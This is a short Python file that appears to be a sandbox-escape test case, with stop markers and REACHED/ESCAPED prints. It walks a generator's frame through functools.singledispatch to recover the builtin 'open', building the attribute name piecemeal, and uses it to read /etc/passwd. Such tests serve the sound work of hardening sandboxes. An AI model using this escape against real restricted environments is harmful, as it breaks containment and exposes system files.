# tries: a generic function calls a reader in the library's frame
# class: lazy
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import functools
import operator

read = functools.singledispatch(operator.attrgetter("gi_frame"))
use(pick(read((x for x in ()))))
